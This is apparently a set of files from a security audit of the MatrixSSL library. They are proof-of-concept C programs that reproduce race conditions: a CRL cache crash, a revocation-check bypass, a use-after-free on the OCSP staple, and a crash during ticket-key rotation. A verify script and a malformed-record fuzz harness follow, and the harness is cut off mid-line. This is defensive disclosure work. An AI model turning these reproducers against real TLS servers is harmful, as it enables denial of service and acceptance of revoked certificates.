   History: thread A: psCRL_Insert(crl); ... psCRL_RemoveAll()  (fine)
            thread B: psCRL_RemoveAll()                           (crash)
   The two flushes are shown back to back in one thread: the crash does not
   depend on timing, only on B coming second. */
#include "common.h"
#include "crl_data.h"

static void *flusher(void *arg)
{
    printf("  thread %s: psCRL_RemoveAll()\n", (const char *) arg);
    psCRL_RemoveAll();
    printf("  thread %s: returned\n", (const char *) arg);
    return NULL;
}

int main(void)
{
    psX509Crl_t *crl = NULL;
    pthread_t t;

    setvbuf(stdout, NULL, _IONBF, 0);
    c20_install_segv();
    if (matrixSslOpen() < 0) return 2;
    if (psX509ParseCRL(NULL, &crl, (unsigned char *) C20_CRL, C20_CRL_len) < 0)
    {
        printf("CRL parse failed\n");
        return 2;
    }
    printf("history:\n  psCRL_Insert(crl) = %d\n", psCRL_Insert(crl));
    pthread_create(&t, NULL, flusher, "A");
    pthread_join(t, NULL);
    pthread_create(&t, NULL, flusher, "B");
    pthread_join(t, NULL);
    /* not reached on the unmodified library */
    /* control: RemoveAll did not free anything, the cache still works */
    if (psCRL_Insert(crl) != 1 || psCRL_Insert(crl) != 0)
    {
        printf("control: re-insert after the flushes FAILED\n");
        return 2;
    }
    psCRL_RemoveAll();
    if (psCRL_Remove(crl) != 0)
    {
        printf("control: the flush left the CRL in the cache\n");
        return 2;
    }
    {
        /* three entries: all are unlinked, none is freed */
        psX509Crl_t *b = NULL, *d = NULL;
        if (psX509ParseCRL(NULL, &b, (unsigned char *) C20_CRL, C20_CRL_len) < 0 ||
            psX509ParseCRL(NULL, &d, (unsigned char *) C20_CRL, C20_CRL_len) < 0)
            return 2;
        psCRL_Insert(crl); psCRL_Insert(b); psCRL_Insert(d);
        psCRL_RemoveAll();
        if (crl->next || b->next || d->next || psCRL_Remove(crl) || psCRL_Remove(b) ||
            psCRL_Remove(d))
        {
            printf("control: flush of three entries FAILED\n");
            return 2;
        }
        psX509FreeCRL(b);
        psX509FreeCRL(d);
    }
    psX509FreeCRL(crl);
    printf("OK: flushing the empty cache is a no-op; insert / flush / free still work\n");
    return 0;
}
