/* C20 demo 4: the "authenticated" mark of a CRL that is already in the global
   CRL cache is reset and set outside g_crlTableLock -> a certificate revoked
   by an authentic CRL passes validation in a concurrent session.

   psX509AuthenticateCRL() (crypto/keyformat/crl.c) starts with
   CRL->authenticated = PS_FALSE, verifies the signature and sets it to
   PS_TRUE - without g_crlTableLock.  The reference flow for a freshly
   fetched CRL (apps/ssl/client.c) is
        psCRL_Update(crl, 1);                  // publish in the global cache
        psX509AuthenticateCRL(issuer, crl, 0); // then authenticate it
   so the object is already shared when its flag is rewritten.  Validation in
   another thread (psX509AuthenticateCert -> psCRL_determineRevokedStatusBDT,
   which holds g_crlTableLock, authenticates the CRL itself if it still can
   and then reads crl->authenticated) can see the transient PS_FALSE and
   classifies the certificate CRL_CHECK_REVOKED_BUT_NOT_AUTHENTICATED, which
   does not fail the chain - only REVOKED_AND_AUTHENTICATED does.

   Sequential specification: from the moment the first psCRL_Update returned,
   the cache always holds a CRL of the issuer that lists serial 01, and every
   validation of the chain [leaf 01, issuer] either finds it authenticated or
   authenticates it itself (cert->next is the issuer): the result must be
   PS_CERT_AUTH_FAIL_REVOKED in every sequential order.

   Thread U: refresh cycle { parse CRL; psCRL_Update(new, 1);
             psX509AuthenticateCRL(CA, new) }.
   Threads V: matrixValidateCerts(chain [leaf, CA], trusted CA) in a loop.
   Optional argv[1] = microseconds of application work between the two calls
   of thread U (default 0). */
#include "common.h"
#include "crl_data.h"

static int stop, published, accepted;
static int gapUsec;
static long validations, cycles;

#define LD(x) __atomic_load_n(&(x), __ATOMIC_SEQ_CST)

#if defined(__SANITIZE_THREAD__)
void __tsan_on_report(void *rep)
{
    static const char m[] =
        "VIOLATION: ThreadSanitizer reports a data race inside the library "
        "(report above)\n";
    (void) rep;
    if (write(1, m, sizeof(m) - 1) < 0) { }
}
#endif

static void *refresher(void *arg)
{
    psX509Cert_t *ca = NULL;
    (void) arg;
    if (psX509ParseCert(NULL, RSA2048CA, RSA2048CA_SIZE, &ca, 0) < 0)
    {
        printf("CA parse failed\n");
        exit(2);
    }
    while (!LD(stop))
    {
        psX509Crl_t *crl = NULL;
        int32 rc;
        if (psX509ParseCRL(NULL, &crl, (unsigned char *) C20_CRL, C20_CRL_len) < 0)
        {
            printf("CRL parse failed\n");
            exit(2);
        }
        psCRL_Update(crl, 1);
        __atomic_store_n(&published, 1, __ATOMIC_SEQ_CST);
        if (gapUsec) usleep(gapUsec);
        rc = psX509AuthenticateCRL(ca, crl, NULL);
        if (rc < 0 || crl->authenticated != 1)
        {
            printf("unexpected: CRL did not authenticate (%d)\n", rc);
            exit(2);
        }
        __atomic_add_fetch(&cycles, 1, __ATOMIC_SEQ_CST);
    }
    psX509FreeCert(ca);
    return NULL;
}

static void *validator(void *arg)
{
    psX509Cert_t *chain = NULL, *ca2 = NULL, *trusted = NULL, *found;
    long n = 0;
    (void) arg;
    if (psX509ParseCert(NULL, RSA2048, RSA2048_SIZE, &chain, 0) < 0 ||
        psX509ParseCert(NULL, RSA2048CA, RSA2048CA_SIZE, &ca2, 0) < 0 ||
        psX509ParseCert(NULL, RSA2048CA, RSA2048CA_SIZE, &trusted, 0) < 0)
    {
        printf("cert parse failed\n");
        exit(2);
    }
    chain->next = ca2; /* the peer sent leaf + issuer */
    while (!LD(published)) usleep(100);
    while (!LD(stop))
    {
        int32 rc;
        /* as freshly parsed from a Certificate message */
        chain->authStatus = ca2->authStatus = 0;
        chain->revokedStatus = ca2->revokedStatus = 0;
        rc = matrixValidateCerts(NULL, chain, trusted, NULL, &found,
                NULL, NULL);
        n++;
        if (rc != PS_CERT_AUTH_FAIL_REVOKED)
        {
            if (!__atomic_exchange_n(&accepted, 1, __ATOMIC_SEQ_CST))
            {
                printf("VIOLATION: matrixValidateCerts returned %d (leaf authStatus %d, "
                    "revokedStatus %d) for the certificate with revoked serial 01 while "
                    "an authentic CRL listing it was in the cache the whole time; every "
                    "sequential order gives PS_CERT_AUTH_FAIL_REVOKED (%d)\n",
                    rc, chain->authStatus, chain->revokedStatus,
                    PS_CERT_AUTH_FAIL_REVOKED);
            }
            __atomic_store_n(&stop, 1, __ATOMIC_SEQ_CST);
            break;
        }
    }
    __atomic_add_fetch(&validations, n, __ATOMIC_SEQ_CST);
    return NULL;
}

/* Control (single thread): psX509AuthenticateCRL on a CRL that is not in the
   cache, then with the flow Update -> Authenticate, then the revocation
   decision, then the empty cache */
static int control(void)
{
    psX509Cert_t *ca = NULL, *leaf = NULL, *ca2 = NULL, *found;
    psX509Crl_t *crl = NULL;
    int32 rc;

    if (psX509ParseCert(NULL, RSA2048CA, RSA2048CA_SIZE, &ca, 0) < 0 ||
        psX509ParseCert(NULL, RSA2048CA, RSA2048CA_SIZE, &ca2, 0) < 0 ||
        psX509ParseCert(NULL, RSA2048, RSA2048_SIZE, &leaf, 0) < 0 ||
        psX509ParseCRL(NULL, &crl, (unsigned char *) C20_CRL, C20_CRL_len) < 0)
        return -1;
    if (psX509AuthenticateCRL(ca, crl, NULL) < 0 || crl->authenticated != 1)
    {
        printf("control: CRL outside the cache did not authenticate\n");
        return -1;
    }
    if (psX509AuthenticateCRL(leaf, crl, NULL) >= 0 || crl->authenticated != 0)
    {
        printf("control: CRL authenticated against a non-issuer\n");
        return -1;
    }
    psCRL_Update(crl, 1);
    if (psX509AuthenticateCRL(ca, crl, NULL) < 0 || crl->authenticated != 1)
    {
        printf("control: CRL inside the cache did not authenticate\n");
        return -1;
    }
    leaf->next = ca2; /* chain [leaf, issuer] as in the threads below */
    rc = matrixValidateCerts(NULL, leaf, ca, NULL, &found, NULL, NULL);
    if (rc != PS_CERT_AUTH_FAIL_REVOKED)
    {
        printf("control: revoked leaf gave %d\n", rc);
        return -1;
    }
    psCRL_DeleteAll();
    leaf->authStatus = 0; leaf->revokedStatus = 0;
    rc = matrixValidateCerts(NULL, leaf, ca, NULL, &found, NULL, NULL);
    if (rc < 0)
    {
        printf("control: leaf with an empty CRL cache gave %d\n", rc);
        return -1;
    }
    psX509FreeCert(ca); psX509FreeCert(leaf);
    printf("control: authenticate outside / inside the cache, revoked -> -35, "
           "empty cache -> pass: all fine\n");
    return 0;
}

int main(int argc, char **argv)
{
    pthread_t u, v[3];
    int i, secs = 60;

    setvbuf(stdout, NULL, _IONBF, 0);
    c20_install_segv();
    if (argc > 1) gapUsec = atoi(argv[1]);
    if (argc > 2) secs = atoi(argv[2]);
    if (matrixSslOpen() < 0) return 2;
    printf("history: thread U = { psX509ParseCRL; psCRL_Update(crl,1); [%d us]; "
           "psX509AuthenticateCRL(CA,crl) } in a loop, 3 threads = "
           "matrixValidateCerts([leaf serial 01, CA], CA) in a loop, up to %d s\n",
           gapUsec, secs);
    if (control() < 0) return 2;
    pthread_create(&u, NULL, refresher, NULL);
    for (i = 0; i < 3; i++) pthread_create(&v[i], NULL, validator, NULL);
    for (i = 0; i < secs * 10 && !LD(stop); i++) usleep(100000);
    __atomic_store_n(&stop, 1, __ATOMIC_SEQ_CST);
    for (i = 0; i < 3; i++) pthread_join(v[i], NULL);
    pthread_join(u, NULL);
    printf("%ld refresh cycles, %ld validations\n", cycles, validations);
    if (accepted) return 1;
    if (cycles < 10 || validations < 1000)
    {
        printf("too little work done to conclude anything\n");
        return 2;
    }
    printf("OK: every validation returned PS_CERT_AUTH_FAIL_REVOKED\n");
    return 0;
}
