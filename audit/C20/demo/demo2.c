/* C20 demo 2: refreshing the stapled OCSP response of a shared key set while
   other threads handshake -> use-after-free / torn CertificateStatus.

   matrixSslLoadOCSPResponse() (matrixssl/matrixsslKeys.c) is documented as
   the call a server makes "whenever the server application gets a new OCSP
   response" to update the sslKeys_t that its sessions share.  It frees
   keys->OCSPResponseBuf, stores the new length, allocates and copies - with
   no lock.  The handshake code reads keys->OCSPResponseBufLen and
   keys->OCSPResponseBuf three times without a lock: extDecode.c
   (status_request extension), sslEncode.c sslEncodeResponse (flight size)
   and sslEncode.c writeCertificateStatus (Memcpy of the response into the
   flight); tls13Encode.c / tls13EncodeExt.c do the same for TLS 1.3.
   A handshake thread therefore copies from a freed buffer, or with the new
   length from the old (freed) pointer, and sends that to the peer.

   Thread U: matrixSslLoadOCSPResponse(keys, R_k) in a loop; R_k is a
   response filled with the single byte value k (length depends on k's parity).
   Threads H: TLS 1.2 handshakes with OCSPstapling=1; the demo parses the
   server's flight and checks that the CertificateStatus body is exactly one
   of the responses that were ever loaded (one byte value, matching length).
   Anything else is an outcome no sequential order of the calls can produce.
   Under ASan/TSan the sanitizer report comes first. */
#include "common.h"

#define LEN_EVEN 3000
#define LEN_ODD  9000

static sslKeys_t *skeys, *ckeys;
static int stop;
static int torn, checked;
static int lastLen = -1, lastByte = -1; /* body of the last CertificateStatus seen */

#define STOPPED() __atomic_load_n(&stop, __ATOMIC_SEQ_CST)

static void *updater(void *arg)
{
    static unsigned char buf[LEN_ODD];
    int k = 2;
    (void) arg;
    while (!STOPPED())
    {
        int len = (k & 1) ? LEN_ODD : LEN_EVEN;
        memset(buf, k, len);
        matrixSslLoadOCSPResponse(skeys, buf, len);
        k++;
        if (k > 250) k = 2;
    }
    return NULL;
}

/* Find handshake message type 22 (certificate_status) in a plaintext TLS 1.2
   server flight and check its body */
static void tap(void *ctx, int fromServer, const unsigned char *b, int len)
{
    int off = 0;
    (void) ctx;
    if (!fromServer) return;
    while (off + 5 <= len)
    {
        int rlen = (b[off + 3] << 8) | b[off + 4];
        const unsigned char *p = b + off + 5, *e;
        if (b[off] != 22 || off + 5 + rlen > len) break;
        e = p + rlen;
        while (p + 4 <= e)
        {
            int hlen = (p[1] << 16) | (p[2] << 8) | p[3];
            if (p + 4 + hlen > e) break; /* encrypted Finished etc. */
            if (p[0] == 22 && hlen >= 4)
            {
                int olen = (p[5] << 16) | (p[6] << 8) | p[7];
                const unsigned char *o = p + 8;
                int i, bad = 0;
                __atomic_add_fetch(&checked, 1, __ATOMIC_SEQ_CST);
                __atomic_store_n(&lastLen, olen, __ATOMIC_SEQ_CST);
                __atomic_store_n(&lastByte, olen > 0 ? o[0] : -1, __ATOMIC_SEQ_CST);
                if (olen != hlen - 4) bad = 1;
                else if (olen != (((o[0]) & 1) ? LEN_ODD : LEN_EVEN)) bad = 2;
                else for (i = 1; i < olen; i++) if (o[i] != o[0]) { bad = 3; break; }
                if (bad && !__atomic_exchange_n(&torn, bad, __ATOMIC_SEQ_CST))
                {
                    printf("VIOLATION: server sent a CertificateStatus that is none "
                        "of the responses ever loaded (check %d: length %d, first "
                        "byte 0x%02x, byte at mismatch 0x%02x)\n", bad, olen, o[0],
                        bad == 3 ? o[i] : 0);
                }
            }
            p += 4 + hlen;
        }
        off += 5 + rlen;
    }
}

static void one_hello(void);

/* Control (no concurrency): the stapled response is the one loaded last */
static int control(void)
{
    static unsigned char r[LEN_ODD];
    memset(r, 2, LEN_EVEN);
    if (matrixSslLoadOCSPResponse(skeys, r, LEN_EVEN) < 0) return -1;
    one_hello();
    if (lastLen != LEN_EVEN || lastByte != 2 || torn) return -1;
    memset(r, 3, LEN_ODD);
    if (matrixSslLoadOCSPResponse(skeys, r, LEN_ODD) < 0) return -1;
    one_hello();
    if (lastLen != LEN_ODD || lastByte != 3 || torn) return -1;
    return 0;
}

/* Control for the TLS 1.3 readers (Certificate entry extension, encrypted, so
   it cannot be tapped): with a dummy response loaded the client must refuse
   the staple, i.e. the server did staple it; returns the client's error */
static int control13(void)
{
    sslSessOpts_t o;
    ssl_t *cs, *ss;
    c20_end_t c, s;

    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    if (matrixSslNewServerSession(&ss, skeys, NULL, &o) < 0) return 0;
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    o.OCSPstapling = 1;
    if (matrixSslNewClientSession(&cs, ckeys, NULL, NULL, 0, c20_certcb_any,
            NULL, NULL, NULL, &o) < 0) { matrixSslDeleteSession(ss); return 0; }
    c20_end_init(&c, cs);
    c20_end_init(&s, ss);
    c20_handshake(&c, &s, NULL, NULL);
    matrixSslDeleteSession(cs);
    matrixSslDeleteSession(ss);
    return c.err;
}

static void *handshaker(void *arg)
{
    int i;
    for (i = 0; i < 300 && !STOPPED(); i++)
    {
        if (arg != NULL)
        {
            /* third thread: TLS 1.3, for the readers in tls13Encode*.c
               (only the sanitizers can judge these: the staple is encrypted) */
            if (i < 60) control13();
            continue;
        }
        one_hello();
        if (__atomic_load_n(&torn, __ATOMIC_SEQ_CST)) break;
    }
    return NULL;
}

static void one_hello(void)
{
    {
        sslSessOpts_t o;
        ssl_t *cs, *ss;
        c20_end_t c, s;
        psCipher16_t suite[1] = { 0x003c }; /* TLS_RSA_WITH_AES_128_CBC_SHA256: cheap */

        memset(&o, 0, sizeof(o));
        o.versionFlag = SSL_FLAGS_TLS_1_2;
        if (matrixSslNewServerSession(&ss, skeys, NULL, &o) < 0) return;
        memset(&o, 0, sizeof(o));
        o.versionFlag = SSL_FLAGS_TLS_1_2;
        o.OCSPstapling = 1;
        if (matrixSslNewClientSession(&cs, ckeys, NULL, suite, 1, c20_certcb_any,
                NULL, NULL, NULL, &o) < 0) { matrixSslDeleteSession(ss); return; }
        c20_end_init(&c, cs);
        c20_end_init(&s, ss);
        /* ClientHello -> server, server flight -> tap (the client will then
           reject the dummy response; the server side is what is under test) */
        c20_flush(&c, &s, 0, tap, NULL);
        c20_flush(&s, &c, 1, tap, NULL);
        matrixSslDeleteSession(cs);
        matrixSslDeleteSession(ss);
    }
}

#if defined(__SANITIZE_THREAD__)
/* TSan calls this for every report */
void __tsan_on_report(void *rep)
{
    static const char m[] =
        "VIOLATION: ThreadSanitizer reports a data race inside the library "
        "(report above)\n";
    (void) rep;
    if (write(1, m, sizeof(m) - 1) < 0) { }
}
#endif

int main(void)
{
    pthread_t u, h[3];
    static unsigned char first[LEN_EVEN];
    int i;

    setvbuf(stdout, NULL, _IONBF, 0);
    c20_install_segv();
    if (matrixSslOpen() < 0) return 2;
    skeys = c20_server_keys();
    ckeys = c20_client_keys();
    if (!skeys || !ckeys) return 2;
    i = control13();
    printf("control: TLS 1.3 handshake with status_request, no response loaded: "
           "client result %d (%s)\n", i, i == 0 ? "completes" : "UNEXPECTED");
    if (i != 0) return 2;
    memset(first, 2, sizeof(first));
    if (matrixSslLoadOCSPResponse(skeys, first, sizeof(first)) < 0) return 2;

    if (control() < 0)
    {
        printf("control case (staple the response loaded last) FAILED: len %d byte %d\n",
            lastLen, lastByte);
        return 2;
    }
    printf("control: sequential load / handshake / load / handshake staples the "
           "response loaded last each time\n");
    i = control13();
    printf("control: TLS 1.3 handshake with status_request and the dummy response: "
           "client result %d (%s)\n", i, i < 0 ? "staple delivered and refused, as "
           "expected for a dummy" : "UNEXPECTED");
    if (i >= 0) return 2;
    printf("history: 1 thread calls matrixSslLoadOCSPResponse(keys, R_k) repeatedly, "
           "2 threads run TLS 1.2 and 1 thread TLS 1.3 handshakes with status_request against the same keys\n");
    pthread_create(&u, NULL, updater, NULL);
    for (i = 0; i < 3; i++) pthread_create(&h[i], NULL, handshaker, i == 2 ? &h : NULL);
    for (i = 0; i < 3; i++) pthread_join(h[i], NULL);
    __atomic_store_n(&stop, 1, __ATOMIC_SEQ_CST);
    pthread_join(u, NULL);
    printf("%d CertificateStatus messages checked\n", checked);
    if (torn) return 1;
    printf("OK: every CertificateStatus was one of the loaded responses, whole\n");
    return 0;
}
