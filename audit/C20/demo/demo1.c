/* C20 demo 1: ticket-key rotation racing a TLS 1.2 handshake crashes the server.

   matrixCreateSessionTicket() (matrixssl/matrixssl.c) takes g_sessTicketLock,
   reads keys = ssl->keys->sessTickets and dereferences it without a NULL
   check.  Whether a NewSessionTicket will be written is decided much earlier,
   when the ClientHello is parsed (extDecode.c: matrixSslHaveSessionTicketKeys
   -> SESS_TICKET_STATE_RECVD_EXT).  Between the two lies a network round
   trip.  If another thread rotates the ticket key in that window by
   "delete old, then load new" (matrixSslDeleteSessionTicketKey succeeds: the
   key's inUse count is 0, it only counts sessions inside getTicketKeys), the
   list is empty when the handshake thread reaches writeNewSessionTicket ->
   NULL dereference.  The TLS 1.3 sibling tls13NewTicket() has the NULL check.

   Part A shows the interleaving deterministically (the rotation call is
   placed between two matrixSslReceivedData calls of the handshake thread).
   Part B (argument "threads") runs the same thing with real threads. */
#include "common.h"

static unsigned char NAME_A[16] = "ticket-key-AAAA";
static unsigned char NAME_B[16] = "ticket-key-BBBB";
static unsigned char SYM[32], MAC[32];

static sslKeys_t *skeys, *ckeys;

static int new_pair(c20_end_t *c, c20_end_t *s, sslSessionId_t *sid)
{
    sslSessOpts_t o;
    ssl_t *cs, *ss;

    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&ss, skeys, NULL, &o) < 0) return -1;
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_2;
    o.ticketResumption = 1;
    if (matrixSslNewClientSession(&cs, ckeys, sid, NULL, 0, c20_certcb, NULL,
            NULL, NULL, &o) < 0) return -1;
    c20_end_init(c, cs);
    c20_end_init(s, ss);
    return 0;
}

static volatile int stop;

/* Control: honest ticket life cycle on the same key set - full handshake
   that is issued a ticket, ticket resumption, rotation in the safe order
   (load new, delete old), a full handshake under the new key and its
   resumption.  Returns 0 when all of it works. */
static int control(void)
{
    c20_end_t c, s;
    sslSessionId_t *sid;
    int round, rc;

    matrixSslNewSessionId(&sid, NULL);
    for (round = 0; round < 4; round++)
    {
        if (round == 2)
        {
            matrixSslClearSessionId(sid);
            if (matrixSslLoadSessionTicketKeys(skeys, NAME_B, SYM, 32, MAC, 32) < 0 ||
                matrixSslDeleteSessionTicketKey(skeys, NAME_A) < 0)
            {
                printf("control: rotation failed\n");
                return -1;
            }
        }
        if (new_pair(&c, &s, sid) < 0) return -1;
        rc = c20_handshake(&c, &s, NULL, NULL);
        if (rc != 0 || c20_send(&c, &s, 0, "ping") != 0 ||
            c20_send(&s, &c, 1, "pong") != 0)
        {
            printf("control: round %d failed (rc %d)\n", round, rc);
            return -1;
        }
        if (matrixSslSessionIdGetSessionTicketLen(sid) == 0)
        {
            printf("control: round %d: client holds no ticket\n", round);
            return -1;
        }
        if ((round & 1) && !matrixSslIsResumedSession(s.ssl))
        {
            printf("control: round %d: ticket was not resumed\n", round);
            return -1;
        }
        matrixSslDeleteSession(c.ssl);
        matrixSslDeleteSession(s.ssl);
    }
    matrixSslDeleteSessionId(sid);
    /* back to the starting state: only key A */
    matrixSslLoadSessionTicketKeys(skeys, NAME_A, SYM, 32, MAC, 32);
    matrixSslDeleteSessionTicketKey(skeys, NAME_B);
    return 0;
}

static void *rotator(void *arg)
{
    int n = 0;
    (void) arg;
    while (!stop)
    {
        /* rotate: retire the current key, install the next one */
        unsigned char *oldn = (n & 1) ? NAME_B : NAME_A;
        unsigned char *newn = (n & 1) ? NAME_A : NAME_B;
        if (matrixSslDeleteSessionTicketKey(skeys, oldn) == PS_SUCCESS)
        {
            usleep(200);
            matrixSslLoadSessionTicketKeys(skeys, newn, SYM, 32, MAC, 32);
            n++;
        }
        usleep(500);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    c20_end_t c, s;
    sslSessionId_t *sid;
    int rc;

    setvbuf(stdout, NULL, _IONBF, 0);
    c20_install_segv();
    memset(SYM, 0x11, sizeof(SYM));
    memset(MAC, 0x22, sizeof(MAC));

    if (matrixSslOpen() < 0) return 2;
    skeys = c20_server_keys();
    ckeys = c20_client_keys();
    if (!skeys || !ckeys) return 2;
    if (matrixSslLoadSessionTicketKeys(skeys, NAME_A, SYM, 32, MAC, 32) < 0)
        return 2;

    if (control() < 0)
    {
        printf("control case (ticket issue / resume / rotate) FAILED\n");
        return 2;
    }
    printf("control: ticket issue, resumption, rotation (load new, delete old), "
           "issue, resumption: all fine\n");

    if (argc > 1 && strcmp(argv[1], "threads") == 0)
    {
        pthread_t th;
        int i, okc = 0, failc = 0;
        printf("part B: thread 1 = 400 TLS 1.2 handshakes asking for a ticket, "
               "thread 2 = ticket key rotation (delete old, load new)\n");
        pthread_create(&th, NULL, rotator, NULL);
        for (i = 0; i < 400; i++)
        {
            matrixSslNewSessionId(&sid, NULL);
            if (new_pair(&c, &s, sid) < 0) return 2;
            rc = c20_handshake(&c, &s, NULL, NULL);
            if (rc == 0) okc++; else failc++;
            matrixSslDeleteSession(c.ssl);
            matrixSslDeleteSession(s.ssl);
            matrixSslDeleteSessionId(sid);
        }
        stop = 1;
        pthread_join(th, NULL);
        printf("OK: no crash: %d handshakes completed, %d refused because the "
               "ticket key had gone\n", okc, failc);
        return 0;
    }

    printf("part A: history\n");
    matrixSslNewSessionId(&sid, NULL);
    if (new_pair(&c, &s, sid) < 0) return 2;
    printf("  T1: client -> ClientHello(SessionTicket ext) -> server, "
           "server answers ServerHello..ServerHelloDone\n");
    rc = c20_flush(&c, &s, 0, NULL, NULL);
    if (rc < 0) { printf("unexpected rc %d\n", rc); return 2; }
    rc = c20_flush(&s, &c, 1, NULL, NULL);
    if (rc < 0) { printf("unexpected rc %d\n", rc); return 2; }

    rc = matrixSslDeleteSessionTicketKey(skeys, NAME_A);
    printf("  T2: matrixSslDeleteSessionTicketKey(keys, A) = %d  "
           "(first half of a rotation; load of key B would follow)\n", rc);
    if (rc != PS_SUCCESS) { printf("delete refused - not reproducible\n"); return 0; }

    printf("  T1: client -> ClientKeyExchange, CCS, Finished -> server "
           "(server now writes NewSessionTicket)\n");
    rc = c20_flush(&c, &s, 0, NULL, NULL);
    /* not reached on the unmodified library */
    printf("  server took the flight without crashing (rc %d, s.err %d)\n", rc, s.err);
    rc = c20_flush(&s, &c, 1, NULL, NULL);
    printf("  server's answer to the client: rc %d, client saw alert %d, "
           "handshake complete: client %d server %d\n", rc, c.alert, c.done, s.done);
    if (c.done || c.alert != SSL_ALERT_INTERNAL_ERROR ||
        c20_send(&s, &c, 1, "data after the fatal alert") == 0)
    {
        printf("unexpected: the failed handshake is usable\n");
        return 2;
    }
    printf("  the server session refuses to send application data after its alert\n");
    matrixSslDeleteSession(c.ssl);
    matrixSslDeleteSession(s.ssl);
    matrixSslDeleteSessionId(sid);
    matrixSslLoadSessionTicketKeys(skeys, NAME_B, SYM, 32, MAC, 32);
    /* and the key set is usable again once the rotation has completed */
    matrixSslNewSessionId(&sid, NULL);
    if (new_pair(&c, &s, sid) < 0 || c20_handshake(&c, &s, NULL, NULL) != 0 ||
        matrixSslSessionIdGetSessionTicketLen(sid) == 0)
    {
        printf("handshake after the completed rotation FAILED\n");
        return 2;
    }
    printf("OK: the handshake that lost its ticket key ended without a crash, "
           "the next one (key B loaded) completed and was issued a ticket\n");
    return 0;
}
