#!/bin/sh
# usage: verify.sh N   (run with fix N applied to the worktree)
N=$1
TOP=/tmp/seed-C20
LOG=$TOP/audit-out/fix/verify$N.log
: > $LOG
cd $TOP
( make -j4 > $TOP/audit-out/fix/make$N.log 2>&1; echo "make exit=$?" ) | tee -a $LOG
( cd crypto/test && for t in algorithmTest eccTest rsaTest hmacTest; do ./$t > /dev/null 2>&1; echo "$t exit=$?"; done ) | tee -a $LOG
( cd matrixssl/test && ./sslTest > $TOP/audit-out/fix/sslTest$N.log 2>&1; echo "sslTest exit=$?" ) | tee -a $LOG
( cd audit-out/demo && ./build.sh > /dev/null 2>&1; echo "demo build exit=$?" ) | tee -a $LOG
