/* exploratory: plaintext garbage events after the handshake, invariants check */
#include "../demo/common.h"
#include "matrixssl/matrixssllib.h"

typedef struct { const char *name; unsigned char b[40]; int len; } ev_t;
static ev_t evs[] = {
    {"alert len1", {0x15,3,3,0,1,2}, 6},
    {"alert len0", {0x15,3,3,0,0}, 5},
    {"alert warn 90 plaintext", {0x15,3,3,0,2,1,90}, 7},
    {"alert close plaintext", {0x15,3,3,0,2,1,0}, 7},
    {"alert lvl0 desc40", {0x15,3,3,0,2,0,40}, 7},
    {"ccs", {0x14,3,3,0,1,1}, 6},
    {"ccs len2", {0x14,3,3,0,2,1,1}, 7},
    {"ccs val2", {0x14,3,3,0,1,2}, 6},
    {"hs len1", {0x16,3,3,0,1,0}, 6},
    {"hs len2", {0x16,3,3,0,2,4,0}, 7},
    {"app len0", {0x17,3,3,0,0}, 5},
    {"app len1", {0x17,3,3,0,1,9}, 6},
    {"type 24", {0x18,3,3,0,3,1,0,0}, 8},
    {"ver 0301", {0x17,3,1,0,1,9}, 6},
    {"ver 0505", {0x17,5,5,0,1,9}, 6},
    {"sslv2", {0x80,0x03,0x01,0,2}, 5},
    {"oversize", {0x17,3,3,0x48,0x01}, 5},
    {"oversize13", {0x17,3,3,0x41,0x01}, 5},
    {"alert len17", {0x15,3,3,0,17,2,40,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0}, 22},
};

static int setup(side_t *cli, side_t *srv, sslKeys_t *keys, int ver, int suiteId)
{
    sslSessOpts_t co, so;
    psProtocolVersion_t v[1];
    psCipher16_t suite[1];
    int32_t rc;
    v[0] = ver == 13 ? v_tls_1_3 : (ver == 12 ? v_tls_1_2 : v_tls_1_1);
    suite[0] = suiteId;
    memset(cli, 0, sizeof(*cli)); memset(srv, 0, sizeof(*srv));
    cli->name = "client"; srv->name = "server";
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    if (matrixSslNewServerSession(&srv->ssl, keys, NULL, &so) < 0) return -1;
    rc = matrixSslNewClientSession(&cli->ssl, keys, NULL, suiteId ? suite : NULL, suiteId ? 1 : 0, certCb,
            NULL, NULL, NULL, &co);
    if (rc != MATRIXSSL_REQUEST_SEND) return -1;
    return handshake(cli, srv);
}

int main(void)
{
    sslKeys_t *keys;
    side_t cli, srv, *victim;
    static unsigned char wire[65536];
    int cfg, who, e, n;
    int32_t first, rc, enc, clos;
    struct { int ver; int suite; const char *n; } cfgs[] = {
        {13, 0, "tls13"}, {12, 0x009C, "tls12-gcm"}, {12, 0x002F, "tls12-cbc"}, {11, 0x002F, "tls11-cbc"} };

    matrixSslOpen();
    keys = loadRsaKeys();
    for (cfg = 0; cfg < 4; cfg++)
    for (who = 0; who < 2; who++)
    for (e = 0; e < (int)(sizeof(evs)/sizeof(evs[0])); e++)
    {
        if (setup(&cli, &srv, keys, cfgs[cfg].ver, cfgs[cfg].suite) < 0) { printf("setup fail %s\n", cfgs[cfg].n); continue; }
        victim = who ? &srv : &cli;
        rc = feed(victim, evs[e].b, evs[e].len, &first);
        n = matrixSslGetOutdata(victim->ssl, NULL);
        enc = matrixSslEncodeToOutdata(victim->ssl, (unsigned char *)"x", 1);
        clos = 0;
        /* does it still deliver? */
        {
            side_t *peer = who ? &cli : &srv;
            int m = sendApp(peer, "PEERDATA", wire, sizeof(wire));
            int32_t f2 = 0;
            victim->appLen = 0;
            if (m > 0) feed(victim, wire, m, &f2);
            clos = f2;
        }
        printf("%-10s %-6s %-24s rc=%4d out=%3d flags(err=%d closed=%d cas=%d) enc=%4d nextRecv=%4d delivered=%d %s\n",
            cfgs[cfg].n, victim->name, evs[e].name, first, n,
            !!(victim->ssl->flags & SSL_FLAGS_ERROR), !!(victim->ssl->flags & SSL_FLAGS_CLOSED),
            !!(victim->ssl->bFlags & BFLAG_CLOSE_AFTER_SENT), enc, clos, victim->appLen,
            ((first < 0 || first == MATRIXSSL_RECEIVED_ALERT || n > 0) && (enc > 0 || victim->appLen > 0)) ? "<<<<< SUSPECT" :
